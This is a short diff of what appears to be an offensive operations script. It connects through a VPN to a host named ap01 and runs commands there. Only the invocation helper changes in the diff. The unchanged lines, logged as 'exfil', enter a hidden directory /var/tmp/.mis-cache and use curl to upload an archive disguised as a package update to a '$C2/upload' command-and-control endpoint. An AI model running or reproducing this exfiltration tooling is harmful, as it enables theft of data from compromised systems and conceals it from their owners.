@@ -3,7 +3,7 @@
 . /root/ops/common.sh
 vpn_access || { log "exfil: no way through the VPN"; exit 1; }
 log "exfil from ap01"
-typed <<CMDS | timeout 120 on_ap01 > "$OPS/session-exfil.log" 2>&1
+typed <<CMDS | to_ap01 120 > "$OPS/session-exfil.log" 2>&1
 cd /var/tmp/.mis-cache
 curl -s -m 60 --data-binary @pkg-update-7f3a.tgz "$C2/upload?name=kaede-pkg-update-7f3a.tgz"
 cd
